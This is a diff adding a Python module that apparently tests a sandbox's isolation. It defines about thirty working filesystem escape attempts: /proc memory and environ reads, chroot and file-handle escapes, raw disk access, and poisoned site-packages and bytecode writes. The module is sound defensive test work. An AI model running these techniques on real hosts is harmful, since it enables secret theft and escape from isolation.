@@ -1,0 +1,421 @@
+"""Attacks on files: reading what others keep, writing where others look, and the ways around a path that is forbidden."""
+
+from __future__ import annotations
+
+from attack import Family, root_only, told
+
+FAMILY = Family("filesystem", {"layers": ("mount", "landlock"), "shows": "A planted secret is in the result."})
+attack = FAMILY.attack
+_CHANGED = "The planted tree is not as it was."
+
+attack(
+    "absolute_paths",
+    tries="Opens credentials, an env file, a Redis data file and notes by their absolute paths.",
+    body="return [attempt(text, path) for path in w['files']]",
+)
+attack(
+    "dot_dot",
+    tries="Climbs from its own folder to the root with dots and goes down again.",
+    body="return [attempt(text, '../' * 40 + path[1:]) for path in w['files']]",
+)
+attack(
+    "symlink",
+    tries="Makes symbolic links to the files, and to the folders above them, and reads through those.",
+    body="""
+    found = []
+    for number, path in enumerate(w["files"]):
+        attempt(os.symlink, path, f"link{number}")
+        attempt(os.symlink, os.path.dirname(path), f"folder{number}")
+        found += [attempt(text, f"link{number}"), attempt(text, f"folder{number}/{os.path.basename(path)}")]
+    return found
+    """,
+)
+attack(
+    "hardlink",
+    tries="Makes hard links to the files in a folder it may read.",
+    layers=("mount", "landlock", "seccomp"),
+    body="""
+    found = []
+    for number, path in enumerate(w["files"]):
+        for place in (os.getcwd(), w["work"]):
+            attempt(os.link, path, f"{place}/hard{number}")
+            found.append(attempt(text, f"{place}/hard{number}"))
+    return found
+    """,
+)
+attack(
+    "proc_self_root",
+    tries="Names the files through /proc/self/root, /proc/thread-self/root and every task's root.",
+    body="""
+    found = []
+    for start in ("/proc/self/root", "/proc/thread-self/root", f"/proc/self/task/{os.getpid()}/root", "/proc/self/cwd/../../.."):
+        found += [attempt(text, start + path) for path in w["files"]]
+    return found
+    """,
+)
+attack(
+    "proc_others_root",
+    tries="Names the files through the root and working folder of every other process it can see, 1 and the host first.",
+    layers=("pid", "mount", "landlock"),
+    body="""
+    found = []
+    for pid in [1, *w["pids"], *w["siblings"], *[name for name in os.listdir("/proc") if name.isdigit()]]:
+        for start in ("root", "cwd/../../../../../.."):
+            found += [attempt(text, f"/proc/{pid}/{start}{path}") for path in w["files"][:2]]
+        found.append(attempt(text, f"/proc/{pid}/cwd/private.txt"))
+    return [each for each in found if each][:20]
+    """,
+)
+attack(
+    "proc_descriptors",
+    tries="Reads everything its own descriptors lead to, directly and through /proc/self/fd and /dev/fd.",
+    layers=("descriptors",),
+    open_on=("naive",),
+    body="""
+    found = []
+    for fd in range(256):
+        if fd == 3: continue
+        for way in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
+            if os.path.isfile(way) or attempt(os.path.isdir, way):
+                found.append(attempt(text, way))
+                found.append(attempt(text, way + "/private.txt"))
+        data = attempt(os.pread, fd, 1 << 16, 0)
+        found.append(data and data.decode("latin-1"))
+    return [each[:4000] for each in found if each]
+    """,
+)
+attack(
+    "others_descriptors",
+    tries="Opens the descriptors of other processes through /proc.",
+    layers=("pid", "landlock", "uid"),
+    body="""
+    found = []
+    for pid in [*w["pids"], *w["siblings"], *[name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]]:
+        for fd in attempt(os.listdir, f"/proc/{pid}/fd") or []:
+            if os.path.isfile(f"/proc/{pid}/fd/{fd}") and str(attempt(os.readlink, f"/proc/{pid}/fd/{fd}")).startswith("/memfd:private"):
+                found.append(attempt(text, f"/proc/{pid}/fd/{fd}"))
+    return [each[:4000] for each in found if each][:50]
+    """,
+)
+attack(
+    "environ_of_others",
+    tries="Reads the environment of every process it can see.",
+    layers=("pid", "landlock", "uid"),
+    body="""
+    pids = [*w["pids"], *[int(name) for name in os.listdir("/proc") if name.isdigit()]]
+    return [each for each in (attempt(text, f"/proc/{pid}/environ") for pid in pids) if each and "SECRET" in each]
+    """,
+)
+attack(
+    "memory_of_others",
+    tries="Reads the memory of a process of the host, and of its own siblings, through /proc.",
+    layers=("pid", "landlock", "uid"),
+    body="""
+    import re
+    found = []
+    for victim in w["victims"]:
+        def read():
+            with open(f"/proc/{victim['pid']}/mem", "rb", 0) as memory:
+                memory.seek(victim["address"])
+                found.append(memory.read(victim["length"]).decode())
+        attempt(read)
+    for pid in w["siblings"]:
+        def scan():
+            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
+                for line in maps:
+                    if "heap" in line or "rw-p 00000000 00:00 0" in line:
+                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
+                        memory.seek(start)
+                        found.extend(each.decode() for each in re.findall(rb"SECRET-[a-z0-9_]+-[0-9a-f]{24}", memory.read(min(end - start, 1 << 26)))[:20])
+        attempt(scan)
+    return found
+    """,
+)
+attack(
+    "process_list",
+    tries="Lists the command lines of all processes of the machine.",
+    layers=("pid",),
+    body="""
+    return [each for each in (attempt(text, f"/proc/{name}/cmdline") for name in os.listdir("/proc") if name.isdigit()) if each and "SECRET" in each]
+    """,
+)
+attack(
+    "sibling_files",
+    tries="Looks for the working files of attempts that run beside it.",
+    layers=("mount", "landlock", "uid"),
+    body="""
+    found = []
+    for start in ("..", "../..", "/tmp", "/var/tmp", *[f"/proc/{pid}/cwd" for pid in w["siblings"]], *[f"/proc/{pid}/root/tmp" for pid in w["siblings"]]):
+        for folder, folders, files in os.walk(start):
+            if folder.count("/") > start.count("/") + 2:
+                folders.clear()
+            found += [attempt(text, f"{folder}/{name}") for name in files if name.startswith(("sibling", "tmp"))]
+    return [each[:200] for each in found if each and "SECRET" in each]
+    """,
+)
+attack(
+    "write_absolute",
+    tries="Creates a file in a folder anybody may write to, and appends to one anybody may write to.",
+    shows=_CHANGED,
+    body="""
+    for path in (f"{w['work']}/{w['token']}", f"{w['root']}/{w['token']}"):
+        attempt(lambda: open(path, "w").write("x"))
+    attempt(lambda: open(w["notes"], "a").write(w["token"]))
+    """,
+)
+attack(
+    "redis_data",
+    tries="Appends a command to the append-only file of Redis.",
+    shows=_CHANGED,
+    body="open(w['aof'], 'a').write('*3\\r\\n$3\\r\\nSET\\r\\n$1\\r\\nx\\r\\n$1\\r\\n1\\r\\n')",
+)
+attack(
+    "attributes",
+    tries="Changes mode, owner, times and extended attributes of a file: what Landlock does not cover.",
+    shows=_CHANGED,
+    layers=("mount", "seccomp"),
+    body="""
+    attempt(os.chmod, w["notes"], 0o777)
+    attempt(os.chown, w["notes"], 12345, 12345)
+    attempt(os.utime, w["notes"], (1, 1))
+    attempt(os.setxattr, w["notes"], "user.mark", b"x")
+    attempt(os.chmod, w["work"], 0o755)
+    """,
+)
+attack(
+    "truncate",
+    tries="Truncates a file, by path and by opening it.",
+    shows=_CHANGED,
+    body="""
+    attempt(os.truncate, w["notes"], 1)
+    attempt(open, w["notes"], "w")
+    """,
+)
+attack(
+    "rename_and_unlink",
+    tries="Renames, removes, makes and links files in a folder anybody may write to.",
+    shows=_CHANGED,
+    body="""
+    attempt(os.rename, w["notes"], w["notes"] + "2")
+    attempt(os.rename, w["notes"] + "2", w["notes"])
+    attempt(os.mkdir, w["work"] + "/made")
+    attempt(os.symlink, "/etc", w["work"] + "/linked")
+    attempt(os.rmdir, w["work"] + "/made")
+    attempt(os.unlink, w["work"] + "/linked")
+    attempt(os.mkfifo, w["work"] + "/fifo")
+    attempt(os.unlink, w["work"] + "/fifo")
+    """,
+)
+attack(
+    "unnamed_file",
+    tries="Makes an unnamed file in a foreign folder and links it in afterwards.",
+    shows=_CHANGED,
+    body="""
+    fd = os.open(w["work"], os.O_TMPFILE | os.O_RDWR, 0o600)
+    os.write(fd, b"x")
+    libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, f"{w['work']}/{w['token']}".encode(), 0x400)
+    """,
+)
+attack(
+    "tmp_of_others",
+    tries="Writes to the shared temporary folders and the shared memory of the machine.",
+    shows="A file with its token is there.",
+    body="""
+    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/dev/mqueue", "/dev"):
+        attempt(lambda: open(f"{place}/{w['token']}", "w").write("x"))
+    """,
+)
+attack(
+    "site_packages",
+    tries="Writes a module and a .pth file where the next interpreter will import them.",
+    shows="A file with its token is in a folder of the interpreter or of this distribution.",
+    needs=root_only,
+    body="""
+    for place in [*w["folders"], *sys.path]:
+        for name in (f"{w['token']}.py", f"{w['token']}.pth"):
+            attempt(lambda: open(f"{place}/{name}", "w").write("import os"))
+    """,
+)
+attack(
+    "poisoned_bytecode",
+    tries="Writes compiled code beside the modules of the standard library and of this distribution.",
+    shows="A file with its token is among the compiled modules.",
+    needs=root_only,
+    body="""
+    for place in [*w["folders"], os.path.dirname(os.__file__), os.path.dirname(json.__file__)]:
+        attempt(os.makedirs, place + "/__pycache__", exist_ok=True)
+        attempt(lambda: open(f"{place}/__pycache__/{w['token']}.cpython-311.pyc", "wb").write(b"x"))
+    """,
+)
+attack(
+    "device_node",
+    tries="Makes a device node for the disk and reads the file system below all permissions.",
+    layers=("capabilities", "mount", "seccomp"),
+    needs=root_only,
+    body="""
+    import stat
+    os.mknod("disk", stat.S_IFBLK | 0o600, w["device_number"])
+    with open("disk", "rb") as disk:
+        disk.seek(0x400 + 0x68)
+        return disk.read(16).hex()
+    """,
+)
+attack(
+    "devices",
+    tries="Opens the disk, the memory and the kernel's log in /dev.",
+    needs=root_only,
+    body="""
+    found = []
+    for path in (w["device"], "/dev/mem", "/dev/kmem", "/dev/port"):
+        def read():
+            with open(path, "rb", 0) as device:
+                device.seek(0x400 + 0x68)
+                found.append(device.read(16).hex())
+        attempt(read)
+    return found
+    """,
+)
+attack(
+    "mount",
+    tries="Mounts a file system, and a bind of the home, over folders of the host.",
+    shows="A mount point of the host is in the planted tree.",
+    layers=("capabilities", "mount", "seccomp"),
+    needs=root_only,
+    body="""
+    libc.mount(b"none", w["empty"].encode(), b"tmpfs", 0, None)
+    libc.mount(w["home"].encode(), w["empty"].encode(), None, 4096, None)
+    """,
+)
+attack(
+    "new_mount_api",
+    tries="Clones the tree of mounts with open_tree and reads in the clone.",
+    layers=("capabilities", "mount", "seccomp"),
+    needs=root_only,
+    body="""
+    found = []
+    for path in (b"/", w["root"].encode()):
+        fd = syscall("open_tree", -100, path, 1 | 0x8000)
+        for name in (w["private"][1:], "private.txt"):
+            inner = attempt(os.open, name, os.O_RDONLY, dir_fd=fd)
+            if inner is not None:
+                found.append(os.read(inner, 4096).decode())
+    return found
+    """,
+)
+attack(
+    "leave_chroot",
+    tries="Leaves its root folder the classic way: chroot below an open folder, then climb.",
+    layers=("capabilities", "mount", "seccomp"),
+    needs=root_only,
+    body="""
+    os.mkdir("cage")
+    outside = os.open(".", os.O_RDONLY)
+    attempt(os.chroot, "cage")
+    attempt(os.fchdir, outside)
+    for _ in range(40):
+        os.chdir("..")
+    attempt(os.chroot, ".")
+    return [attempt(text, path) for path in w["files"]] + [attempt(text, path[1:]) for path in w["files"]]
+    """,
+)
+attack(
+    "open_by_handle",
+    tries="Opens the root of the disk by its file handle, through any file of that disk it can see.",
+    layers=("capabilities", "seccomp"),
+    needs=root_only,
+    body="""
+    found = []
+    class Handle(ctypes.Structure):
+        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("inode", ctypes.c_uint), ("generation", ctypes.c_uint)]
+    for place in (os.__file__, __import__("wrapper").__file__, "/", "/usr", "/etc/hosts", "."):
+        mount = attempt(os.open, place, os.O_RDONLY)
+        if mount is None:
+            continue
+        fd = libc.open_by_handle_at(mount, ctypes.byref(Handle(8, 1, 2, 0)), os.O_RDONLY)
+        inner = attempt(os.open, w["private"][1:], os.O_RDONLY, dir_fd=fd) if fd >= 0 else None
+        if inner is not None:
+            found.append(os.read(inner, 4096).decode())
+    return found
+    """,
+)
+attack(
+    "path_descriptors",
+    tries="Opens without rights (O_PATH), reopens through /proc, and uses openat2 with and without its guards.",
+    body="""
+    found = []
+    fd = attempt(os.open, w["private"], os.O_PATH)
+    found.append(fd is not None and attempt(text, f"/proc/self/fd/{fd}"))
+    fd = attempt(os.open, "/", os.O_PATH)
+    inner = attempt(os.open, w["private"][1:], os.O_RDONLY, dir_fd=fd)
+    found.append(inner is not None and os.read(inner, 4096).decode())
+    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
+    fd = syscall("openat2", -100, w["private"].encode(), how, 24)
+    found.append(fd >= 0 and os.read(fd, 4096).decode())
+    return found
+    """,
+)
+attack(
+    "socket_file",
+    tries="Binds a UNIX socket in a foreign folder.",
+    shows=_CHANGED,
+    layers=("mount", "landlock", "seccomp"),
+    body="socket.socket(socket.AF_UNIX).bind(f\"{w['work']}/{w['token']}\")",
+)
+attack(
+    "score_of_others",
+    tries="Makes the kernel prefer another process when memory runs out, and writes to what /proc lets it.",
+    shows="The score of a process of the host was changed.",
+    layers=("pid", "landlock", "uid"),
+    needs=root_only,
+    body="""
+    for victim in w["victims"]:
+        attempt(lambda: open(f"/proc/{victim['pid']}/oom_score_adj", "w").write("77"))
+    """,
+)
+attack(
+    "network_files",
+    tries="Reads the machine's interfaces, neighbours and connections from /proc and /sys.",
+    layers=("net", "mount"),
+    body="""
+    import glob
+    found = [attempt(text, path) for path in (*glob.glob("/sys/class/net/*/address"), *glob.glob("/sys/devices/**/address", recursive=True), "/proc/net/fib_trie", "/proc/net/arp", "/proc/self/net/fib_trie")]
+    return [each[:4000] for each in found if each]
+    """,
+)
+attack(
+    "symlink_for_the_host",
+    tries="Turns its own output and working folder into links, so that whoever collects them reads something else.",
+    body="""
+    here = os.getcwd()
+    for name in ("stdout", "stderr", "result.json", "sibling.txt"):
+        attempt(os.symlink, w["private"], name)
+    os.chdir("/")
+    attempt(os.rmdir, here)
+    attempt(os.rename, here, here + "x")
+    attempt(os.symlink, w["root"], here)
+    for fd in (1, 2):
+        attempt(lambda: os.dup2(os.open(w["private"], os.O_RDONLY), fd))
+    """,
+)
+attack(
+    "file_names_as_probe",
+    tries="Finds out whether files of the host exist, and when they changed, without opening them.",
+    shows="The size of a planted file is known inside.",
+    shown=lambda world, outcome, token: (
+        ["sizes of the host's files came out"] if str(world.tree[str(world.root / "private.txt")][3]) in str(outcome.value) else []
+    ),
+    layers=("mount",),
+    body="return [str(os.stat(path).st_size) for path in w['files'] if attempt(os.stat, path)]",
+)
+attack(
+    "watch_files",
+    tries="Watches the home of the host with inotify.",
+    shows="It may watch a folder of the host.",
+    layers=("mount", "seccomp"),
+    shown=told,
+    body="""
+    fd = libc.inotify_init()
+    if libc.inotify_add_watch(fd, w["home"].encode(), 0xFFF) >= 0:
+        return w["token"]
+    """,
+)
